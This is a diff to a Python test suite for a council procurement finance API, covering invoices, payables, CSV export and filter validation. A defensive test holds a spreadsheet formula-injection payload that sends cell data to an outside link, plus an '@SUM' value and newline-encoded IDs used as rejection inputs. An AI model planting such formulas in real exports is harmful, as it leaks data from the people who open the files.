@@ -16,8 +16,8 @@ from finance.house import (
     invoice_document,
     money,
     order_document,
+    payable_contract,
     payment_document,
-    signed_contract,
     today,
 )
 from procure.finance.schemas import ContractLine, InvoiceLine, Line, PayableLine, PaymentLine
@@ -33,7 +33,7 @@ async def buyer(db: AsyncSession) -> Council:
 
 @pytest.fixture
 async def signed(db: AsyncSession, buyer: Council, vault: FileKeyring) -> Signed:
-    signed = await signed_contract(db, buyer, await supplier(db), vault, planned=["2000.00"])
+    signed = await payable_contract(db, buyer, await supplier(db), vault, planned=["2000.00"])
     await db.commit()
     return signed
 
@@ -108,7 +108,7 @@ async def test_each_id_is_recorded_once_whatever_is_sent_again(
 async def test_two_buyers_may_use_the_same_number(db: AsyncSession, call: Call, vault: FileKeyring) -> None:
     for name in ("Testshire Council", "Elsewhere Council"):
         buyer = await council(db, name=name)
-        signed = await signed_contract(db, buyer, await supplier(db), vault)
+        signed = await payable_contract(db, buyer, await supplier(db), vault)
         await db.commit()
         order = order_document(signed.contract.id, "100.00", await today(db))
         ok(await call.put(buyer.finance, "/v1/finance/orders/PO-1", order), 201)
@@ -147,7 +147,7 @@ async def test_an_invoice_that_is_wrong_says_every_fault(db: AsyncSession, call:
     unknown = invoice_document("5900.00", "1180.00", key="D9", on=await today(db))
     body = problem(await call.post(signed.supplier, signed.invoices, unknown), 422, "invoice-invalid")
     assert [fault["pointer"] for fault in body["errors"]] == ["/deliverable_key"]
-    ancient = invoice_document("5900.00", "1180.00", on=await today(db)) | {"issued_on": "0001-01-01"}
+    ancient = invoice_document("5900.00", "1180.00", on=await today(db)) | {"issued_on": "1900-01-01"}
     body = problem(await call.post(signed.supplier, signed.invoices, ancient), 422, "invoice-invalid")
     assert [fault["pointer"] for fault in body["errors"]] == ["/issued_on"]
 
@@ -271,7 +271,7 @@ async def test_text_that_a_spreadsheet_would_run_is_made_harmless(
     db: AsyncSession, call: Call, buyer: Council, vault: FileKeyring
 ) -> None:
     evil = '=HYPERLINK("http://example.org/?"&A1,"see, here")'
-    signed = await signed_contract(db, buyer, await supplier(db), vault, title=evil)
+    signed = await payable_contract(db, buyer, await supplier(db), vault, title=evil)
     await db.commit()
     await send_invoice(call, db, signed, number="@SUM(1+1)")
     rows = rows_of(await call.get(buyer.finance, "/v1/finance/payables.csv"))
@@ -295,7 +295,7 @@ async def test_lists_are_filtered(db: AsyncSession, call: Call, buyer: Council, 
         f"payables?contract_id={uuid4()}": 0,
         f"payables?accepted_after={accepted}": 2,
         f"payables?accepted_before={accepted}": 0,
-        "payables?accepted_after=2999-01-01T00:00:00%2B01:00": 0,
+        "payables?accepted_after=2199-01-01T00:00:00%2B01:00": 0,
         "contracts?status=active": 1,
         "contracts?status=lapsed": 0,
         f"contracts?outcome_id={signed.outcome.id}&supplier_id={supplier_id}": 1,
@@ -312,28 +312,29 @@ async def test_lists_are_filtered(db: AsyncSession, call: Call, buyer: Council, 
         assert len(rows_of(await call.get(buyer.finance, f"/v1/finance/{name}.csv?{filters}"))) == count, query
 
 
-@pytest.mark.parametrize(
-    "query",
-    [
+async def test_a_filter_that_cannot_be_read_is_refused(call: Call, buyer: Council, signed: Signed) -> None:
+    queries = (
         "payables?state=closed",
         "payables?accepted_after=2026-01-01T00:00:00",
         "payables?accepted_after=yesterday",
+        "payables.csv?accepted_before=20260101",
+        "payables?accepted_after=0001-01-01T00:00:00%2B14:00",
+        "payables?accepted_before=9999-12-31T23:59:59-14:00",
         "payables?accepted_after=99999999999999999999",
         "payables?supplier_id=1",
         "payables.csv?colour=red",
+        "payables.csv?limit=1",
         "invoices?due_before=2026-13-01",
-    ],
-)
-async def test_a_filter_that_cannot_be_read_is_refused(call: Call, buyer: Council, signed: Signed, query: str) -> None:
-    problem(await call.get(buyer.finance, f"/v1/finance/{query}"), 400, "parameters-invalid")
+    )
+    for query in queries:
+        problem(await call.get(buyer.finance, f"/v1/finance/{query}"), 400, "parameters-invalid")
 
 
-@pytest.mark.parametrize("number", ["%0A", "PO%0A", "-1", "%3D1", "P O", "x" * 101, "é"])
-async def test_an_outside_id_is_plain(
-    db: AsyncSession, call: Call, buyer: Council, signed: Signed, number: str
-) -> None:
+async def test_an_outside_id_is_plain(db: AsyncSession, call: Call, buyer: Council, signed: Signed) -> None:
     order = order_document(signed.contract.id, "1.00", await today(db))
-    problem(await call.put(buyer.finance, f"/v1/finance/orders/{number}", order), 400, "parameters-invalid")
+    for number in ("%0A", "PO%0A", "-1", "%3D1", "P O", "x" * 101, "é"):
+        reply = await call.put(buyer.finance, f"/v1/finance/orders/{number}", order)
+        problem(reply, 400, "parameters-invalid")
 
 
 async def test_control_totals_come_to_what_the_lists_say(
